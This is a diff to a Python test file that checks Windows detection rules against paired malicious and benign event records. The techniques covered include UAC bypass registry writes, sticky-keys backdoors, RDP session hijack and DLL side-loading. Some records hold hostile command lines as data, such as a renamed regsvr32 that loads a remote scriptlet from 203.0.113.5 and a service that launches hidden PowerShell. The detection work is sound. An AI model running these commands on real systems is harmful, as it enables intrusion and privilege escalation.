@@ -27,6 +27,22 @@ def proc(
     return {**SYSMON, "EventID": 1, "Image": image, "CommandLine": command, "ParentImage": parent}
 
 
+def reg(target: str, details: str) -> dict[str, Any]:
+    return {
+        **SYSMON,
+        "EventID": 13,
+        "EventType": "SetValue",
+        "Image": "C:\\Windows\\regedit.exe",
+        "TargetObject": target,
+        "Details": details,
+    }
+
+
+WMI = {"Channel": "Microsoft-Windows-WMI-Activity/Operational"}
+RCM = {"Channel": "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational"}
+BITS = {"Channel": "Microsoft-Windows-Bits-Client/Operational"}
+
+
 CASES: list[tuple[str, dict[str, Any], dict[str, Any] | None]] = [
     (
         "Pass-the-hash shaped logon (type 9, seclogo)",
@@ -257,6 +273,135 @@ CASES: list[tuple[str, dict[str, Any], dict[str, Any] | None]] = [
             "Param3": "192.168.1.20",
         },
     ),
+    (
+        "UAC bypass: per-user shell open command of an auto-elevating program set",
+        reg(
+            "HKU\\S-1-5-21-1-2-3-1000_Classes\\ms-settings\\shell\\open\\command\\(Default)",
+            "C:\\Windows\\system32\\cmd.exe",
+        ),
+        reg(
+            "HKLM\\SOFTWARE\\Classes\\ms-settings\\shell\\open\\command\\(Default)",
+            "C:\\Windows\\ImmersiveControlPanel\\SystemSettings.exe",
+        ),
+    ),
+    (
+        "UAC bypass: per-user windir or systemroot environment variable overridden",
+        reg(
+            "HKU\\S-1-5-21-1-2-3-1000\\Environment\\windir", "C:\\Users\\a\\AppData\\Local\\Temp\\x"
+        ),
+        reg("HKU\\S-1-5-21-1-2-3-1000\\Environment\\TEMP", "C:\\Users\\a\\AppData\\Local\\Temp"),
+    ),
+    (
+        "Process started by the UAC consent program (consent.exe)",
+        proc("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\consent.exe"),
+        proc(
+            "WerFault.exe -u -p 4740",
+            "C:\\Windows\\System32\\WerFault.exe",
+            "C:\\Windows\\System32\\consent.exe",
+        ),
+    ),
+    (
+        "Accessibility program replaced or spawning a shell (sticky keys backdoor)",
+        proc("whoami", "C:\\Windows\\System32\\whoami.exe", "C:\\Windows\\System32\\osk.exe"),
+        proc("osk.exe", "C:\\Windows\\System32\\osk.exe", "C:\\Windows\\System32\\utilman.exe"),
+    ),
+    (
+        "Compiled HTML help (hh.exe) started a shell or script host",
+        proc("cmd.exe /c calc", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\hh.exe"),
+        proc("hh.exe help.chm", "C:\\Windows\\hh.exe", "C:\\Windows\\explorer.exe"),
+    ),
+    (
+        "regsvr32 (or a renamed copy) registering a scriptlet from a URL",
+        proc(
+            "jabber.exe /u /s /i:http://203.0.113.5/a.sct scrobj.dll",
+            "C:\\ProgramData\\jabber.exe",
+        ),
+        proc(
+            "regsvr32.exe /s C:\\Program Files\\App\\x.dll", "C:\\Windows\\System32\\regsvr32.exe"
+        ),
+    ),
+    (
+        "Service set to run a command interpreter (registry)",
+        reg(
+            "HKLM\\System\\CurrentControlSet\\Services\\hello\\ImagePath",
+            "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden",
+        ),
+        reg(
+            "HKLM\\System\\CurrentControlSet\\Services\\Contoso\\ImagePath",
+            '"C:\\Program Files\\Contoso\\agent.exe"',
+        ),
+    ),
+    (
+        "Signature verification (SIP / trust provider) DLL registered",
+        reg(
+            "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\"
+            "CryptSIPDllGetSignedDataMsg\\{E59B6E68-3312-4738-961F-DB9405B2DDCB}\\Dll",
+            "C:\\Users\\a\\sip.dll",
+        ),
+        reg(
+            "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\"
+            "CryptSIPDllGetSignedDataMsg\\{000C10F1-0000-0000-C000-000000000046}\\Dll",
+            "C:\\Windows\\System32\\WINTRUST.DLL",
+        ),
+    ),
+    (
+        "WMI filter bound to a script or command-line consumer (5861)",
+        {
+            **WMI,
+            "EventID": 5861,
+            "CONSUMER": 'CommandLineEventConsumer="Updater"',
+        },
+        {
+            **WMI,
+            "EventID": 5861,
+            "CONSUMER": 'NTEventLogEventConsumer="SCM Event Log Consumer"',
+        },
+    ),
+    (
+        "Remote Desktop logon arriving from the loopback address (tunnelled RDP)",
+        {**RCM, "EventID": 1149, "Param1": "alice", "Param2": "EXAMPLE", "Param3": "127.0.0.1"},
+        {**RCM, "EventID": 1149, "Param1": "alice", "Param2": "EXAMPLE", "Param3": "10.0.0.8"},
+    ),
+    (
+        "Remote Desktop session switched with tscon /dest (session hijack)",
+        proc("tscon 2 /dest:rdp-tcp#14", "C:\\Windows\\System32\\tscon.exe"),
+        proc("tscon 2", "C:\\Windows\\System32\\tscon.exe"),
+    ),
+    (
+        "BITS transfer job created by bitsadmin or an unexpected program",
+        {**BITS, "EventID": 3, "processPath": "C:\\Windows\\System32\\bitsadmin.exe"},
+        {**BITS, "EventID": 3, "processPath": "C:\\Windows\\System32\\svchost.exe"},
+    ),
+    (
+        "DLL known from side-loading loaded outside its product folder",
+        {
+            **SYSMON,
+            "EventID": 7,
+            "Image": "C:\\ProgramData\\Intel\\CV.exe",
+            "ImageLoaded": "C:\\ProgramData\\Intel\\wwlib.dll",
+        },
+        {
+            **SYSMON,
+            "EventID": 7,
+            "Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            "ImageLoaded": "C:\\Program Files\\Microsoft Office\\root\\Office16\\wwlib.dll",
+        },
+    ),
+    (
+        "hosts file read over an administrative share",
+        {
+            **SEC,
+            "EventID": 5145,
+            "ShareName": "\\\\*\\C$",
+            "RelativeTargetName": "Windows\\System32\\drivers\\etc\\hosts",
+        },
+        {
+            **SEC,
+            "EventID": 5145,
+            "ShareName": "\\\\*\\C$",
+            "RelativeTargetName": "Users\\Public\\report.docx",
+        },
+    ),
 ]
 
 
@@ -270,3 +415,25 @@ def test_rule_fires_on_its_event_and_not_on_the_look_alike(
     if benign is not None:
         quiet = run(write_jsonl(tmp_path / "quiet.jsonl", [base | benign]))
         assert title not in quiet.titles()
+
+
+def test_enumeration_pipes_from_one_client_correlate(tmp_path: Path) -> None:
+    title = "Domain enumeration: several RPC enumeration pipes opened by one client"
+
+    def pipe(name: str, second: int) -> dict[str, Any]:
+        return {
+            **SEC,
+            "Computer": "DC01",
+            "EventRecordID": second,
+            "TimeCreated": f"2024-04-12T00:00:{second:02d}Z",
+            "EventID": 5145,
+            "ShareName": "\\\\*\\IPC$",
+            "RelativeTargetName": name,
+            "SubjectUserName": "user01",
+            "IpAddress": "10.0.2.17",
+        }
+
+    three = [pipe("samr", 1), pipe("lsarpc", 2), pipe("srvsvc", 3)]
+    assert title in run(write_jsonl(tmp_path / "hit.jsonl", three)).titles()
+    two = [pipe("samr", 1), pipe("lsarpc", 2), pipe("samr", 3)]
+    assert title not in run(write_jsonl(tmp_path / "quiet.jsonl", two)).titles()
